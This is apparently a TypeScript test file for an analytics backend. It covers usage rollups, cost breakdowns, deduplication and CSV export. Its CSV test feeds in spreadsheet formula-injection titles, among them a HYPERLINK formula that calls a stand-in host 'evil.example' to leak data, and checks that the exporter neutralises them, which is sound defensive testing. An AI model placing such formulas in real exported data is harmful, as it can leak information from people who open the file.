import { rollupUsage } from '@baton/db/rollup';
import { tasks, usageEvents } from '@baton/db/schema';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { quantile } from '../src/analytics/histogram';
import { csvCell } from '../src/router/analytics';
import type { AuthSession } from '../src/trpc';
import { callerFor, type Harness, makeTeam, makeUser, rejection, setupHarness } from './harness';

let h: Harness;
let owner: AuthSession;
let teamId: string;
let otherTeam: string;
let taskA: string;
const T0 = new Date('2026-10-01T10:00:00Z');
const DAY_MS = 86_400_000;
const at = (minutes: number) => new Date(T0.getTime() + minutes * 60_000);

function usage(i: number, over: Partial<typeof usageEvents.$inferInsert> = {}) {
  return {
    providerRequestId: `req_${i}`,
    messageId: `msg_${i}`,
    teamId,
    userId: owner.user.id,
    model: 'claude-sonnet-4-5',
    inputTokens: 100,
    outputTokens: 10,
    cacheReadTokens: 50,
    cacheWrite5mTokens: 5,
    costUsd: '0.0010000000',
    latencyMs: 400,
    ttftMs: 120,
    createdAt: at(i),
    ...over,
  };
}

beforeAll(async () => {
  h = await setupHarness();
  owner = await makeUser(h, 'Olga');
  teamId = await makeTeam(h, 'analytics', [[owner, 'owner']]);
  otherTeam = await makeTeam(h, 'elsewhere', [[owner, 'owner']]);
  const [t] = await h.client.db
    .insert(tasks)
    .values({ teamId, prompt: 'expensive', model: 'claude-sonnet-4-5' })
    .returning();
  taskA = t!.id;
});

afterAll(async () => {
  await h?.close();
});

const range = { from: T0, to: new Date(T0.getTime() + 3 * 3_600_000) };

describe('rollups (kept by baton_rollup_usage; each procedure rolls up pending usage first)', () => {
  it('counts each response once, even when inserted twice', async () => {
    const batch = Array.from({ length: 20 }, (_, i) =>
      usage(i, {
        taskId: i < 5 ? taskA : null,
        status: i % 10 === 9 ? 'error' : 'ok',
        errorType: i % 10 === 9 ? 'overloaded_error' : null,
        latencyMs: i < 10 ? 400 : 2500,
        model: i % 2 ? 'claude-haiku-4-5' : 'claude-sonnet-4-5',
      }),
    );
    await h.client.db.insert(usageEvents).values(batch).onConflictDoNothing();
    // A replay of the same responses plus one for the other team.
    await h.client.db
      .insert(usageEvents)
      .values([...batch, usage(100, { teamId: otherTeam, costUsd: '5' })])
      .onConflictDoNothing();

    const api = await callerFor(h, owner);
    const s = await api.analytics.summary({ teamId, ...range });
    expect(s).toMatchObject({
      grain: 'minute',
      requests: 20,
      errors: 2,
      successRate: 0.9,
      inputTokens: 2000,
      outputTokens: 200,
      cacheReadTokens: 1000,
      cacheWriteTokens: 100,
      costUsd: '0.020000',
    });
    expect(s.latencyP50Ms).toBeGreaterThanOrEqual(300);
    expect(s.latencyP50Ms).toBeLessThanOrEqual(2000);
    expect(s.latencyP95Ms).toBeGreaterThanOrEqual(2000);
    expect(s.latencyP95Ms).toBeLessThanOrEqual(3000);

    const [minute] = await h.client.db
      .execute<{ n: number; req: number }>(
        sql`select count(*)::int as n, sum(requests)::int as req from usage_rollup_minute where team_id = ${teamId}`,
      )
      .then((r) => r.rows);
    expect(minute).toEqual({ n: 20, req: 20 });
    const [day] = await h.client.db
      .execute<{ req: number; cost: string }>(
        sql`select sum(requests)::int as req, sum(cost_usd)::text as cost from usage_rollup_day where team_id = ${teamId}`,
      )
      .then((r) => r.rows);
    expect(day).toEqual({ req: 20, cost: '0.0200000000' });
  });

  it('serves the series, cost by model, error types, task costs and filters', async () => {
    const api = await callerFor(h, owner);
    const ts = await api.analytics.timeseries({ teamId, ...range });
    expect(ts.points).toHaveLength(20);
    expect(ts.points[0]).toMatchObject({ requests: 1, requestsPerMin: 1, inputPerMin: 100 });

    const byModel = await api.analytics.costByModel({ teamId, ...range });
    expect(byModel.models).toEqual(['claude-haiku-4-5', 'claude-sonnet-4-5']);
    expect(byModel.points[0]?.costs['claude-haiku-4-5']).toBeCloseTo(0.01);

    const errors = await api.analytics.errorTypes({ teamId, ...range });
    expect(errors.types).toEqual(['overloaded_error']);
    expect(errors.points.reduce((s, p) => s + (p.counts.overloaded_error ?? 0), 0)).toBe(2);

    const costs = await api.analytics.taskCosts({ teamId, ...range });
    expect(costs.tasks).toBe(1);
    expect(costs.top[0]).toMatchObject({ taskId: taskA, costUsd: '0.005000', requests: 5 });
    expect(costs.buckets.find((b) => b.tasks === 1)).toMatchObject({ lo: 0.001, hi: 0.01 });

    const haiku = await api.analytics.summary({ teamId, ...range, model: 'claude-haiku-4-5' });
    expect(haiku.requests).toBe(10);

    const csv = await api.analytics.csv({ teamId, ...range, dataset: 'topTasks' });
    expect(csv.csv.split('\r\n')[0]).toBe(
      'task_id,title,status,model,requests,tokens,cost_usd,first_at',
    );
    expect(csv.csv).toContain(taskA);
  });

  it('distributes task costs and lists the most expensive tasks first', async () => {
    const extra: string[] = [];
    for (const prompt of ['cheap', 'pricey']) {
      const [t] = await h.client.db
        .insert(tasks)
        .values({ teamId, prompt, model: 'claude-sonnet-4-5' })
        .returning();
      extra.push(t!.id);
    }
    await h.client.db
      .insert(usageEvents)
      .values([
        usage(200, { taskId: extra[0], costUsd: '0.0005' }),
        usage(201, { taskId: extra[1], costUsd: '0.3' }),
        usage(202, { taskId: extra[1], costUsd: '0.3' }),
      ])
      .onConflictDoNothing();
    // A replayed response must not move the pricey task into a higher bucket.
    await h.client.db
      .insert(usageEvents)
      .values(usage(202, { taskId: extra[1], costUsd: '0.3' }))
      .onConflictDoNothing();
    const api = await callerFor(h, owner);
    const wide = { teamId, from: T0, to: new Date(T0.getTime() + 6 * 3_600_000) };
    const costs = await api.analytics.taskCosts(wide);
    expect(costs.tasks).toBe(3);
    expect(costs.avgCostUsd).toBeCloseTo((0.005 + 0.0005 + 0.6) / 3, 9);
    expect(costs.top.map((t) => [t.taskId, t.costUsd])).toEqual([
      [extra[1], '0.600000'],
      [taskA, '0.005000'],
      [extra[0], '0.000500'],
    ]);
    const byBucket = Object.fromEntries(costs.buckets.map((b) => [String(b.lo), b.tasks]));
    expect(byBucket).toMatchObject({ '0': 1, '0.001': 1, '0.5': 1 });
    expect(costs.buckets.reduce((s, b) => s + b.tasks, 0)).toBe(3);

    // Whole days come from the per-day distribution rollup, partial days from
    // the per-task rows: the same answer for a range with both.
    for (const [from, to] of [
      [new Date(T0.getTime() - 2 * DAY_MS - 5_000), new Date(T0.getTime() + 2 * DAY_MS + 7_000)],
      [new Date('2026-10-01T00:00:00Z'), new Date('2026-10-02T00:00:00Z')],
      [new Date('2026-09-30T23:00:00Z'), new Date('2026-10-01T10:02:30Z')],
    ] as const) {
      const other = await api.analytics.taskCosts({ teamId, from, to });
      if (to.getTime() === Date.parse('2026-10-01T10:02:30Z')) {
        // Only taskA's first usage (10:00) is before 10:02:30.
        expect(other.tasks).toBe(1);
        continue;
      }
      expect(other.tasks).toBe(3);
      expect(other.buckets).toEqual(costs.buckets);
      expect(other.avgCostUsd).toBeCloseTo(costs.avgCostUsd!, 9);
    }
  });

  it('computes 5-hour blocks with burn rate', async () => {
    const api = await callerFor(h, owner);
    const blocks = await api.analytics.blocks({ teamId, ...range });
    expect(blocks).toHaveLength(1);
    expect(blocks[0]).toMatchObject({ costUsd: expect.closeTo(0.02, 6) });
    expect(blocks[0]?.startTime.toISOString()).toBe('2026-10-01T10:00:00.000Z');
  });

  it('validates the range and names the field', async () => {
    const api = await callerFor(h, owner);
    const err = await rejection(api.analytics.summary({ teamId, from: range.to, to: range.from }));
    expect(err).toMatchObject({ code: 'BAD_REQUEST' });
    expect(JSON.stringify((err.cause as { issues: unknown }).issues)).toContain('"to"');
  });
});

describe('histogram quantiles', () => {
  it('interpolates inside the bucket', () => {
    // 10 values in [300, 500): the median is in the middle.
    const h = new Array(17).fill(0);
    h[4] = 10;
    expect(quantile(h, 0.5)).toBe(400);
    expect(quantile(new Array(17).fill(0), 0.5)).toBeNull();
  });
});

describe('team deletion', () => {
  it('removes the rollups of a deleted team (no foreign key, a trigger on teams)', async () => {
    const gone = await makeTeam(h, 'short-lived', [[owner, 'owner']]);
    await h.client.db
      .insert(usageEvents)
      .values([usage(300, { teamId: gone, status: 'error', errorType: 'api_error' })]);
    const count = async () => {
      const [r] = await h.client.db
        .execute<{ n: number }>(
          sql`select (select count(*) from usage_rollup_minute where team_id = ${gone})
                + (select count(*) from usage_rollup_hour where team_id = ${gone})
                + (select count(*) from usage_rollup_day where team_id = ${gone})
                + (select count(*) from usage_error_rollup_hour where team_id = ${gone}) as n`,
        )
        .then((x) => x.rows);
      return Number(r?.n);
    };
    expect(await count()).toBe(0); // not rolled up yet
    expect(await rollupUsage(h.client.pool)).toBe(1);
    expect(await count()).toBe(4);
    await h.client.db.execute(sql`delete from teams where id = ${gone}`);
    expect(await count()).toBe(0);
  });
});

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would run as formulas (=HYPERLINK in a task title)', async () => {
    const titles = [
      '=HYPERLINK("http://evil.example/?leak","Click me")',
      '+1+2',
      '-3+4',
      '@SUM(A1:A9)',
      '\tTabbed',
      'Plain title',
    ];
    for (const [i, title] of titles.entries()) {
      const [t] = await h.client.db
        .insert(tasks)
        .values({ teamId: otherTeam, title, prompt: 'p', model: 'claude-sonnet-4-5' })
        .returning();
      await h.client.db.insert(usageEvents).values(
        usage(900 + i, {
          teamId: otherTeam,
          taskId: t!.id,
          costUsd: String(0.01 * (10 - i)),
          createdAt: at(30 + i),
        }),
      );
    }
    const api = await callerFor(h, owner);
    const { csv } = await api.analytics.csv({ teamId: otherTeam, ...range, dataset: 'topTasks' });
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('task_id,title,status,model,requests,tokens,cost_usd,first_at');
    // Most expensive first: the titles in the order inserted, each cell as a spreadsheet must show it.
    const titleCells = lines.slice(1).map((l) => l.split(',').slice(1, -6).join(','));
    expect(titleCells).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak"",""Click me"")"`,
      "'+1+2",
      "'-3+4",
      "'@SUM(A1:A9)",
      "'\tTabbed",
      'Plain title',
    ]);
    // Numbers stay numbers (a cost is never prefixed).
    expect(lines[1]!.split(',').at(-2)).toBe('0.100000');
    expect(csvCell('-0.5')).toBe('-0.5');
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell(null)).toBe('');
  });
});
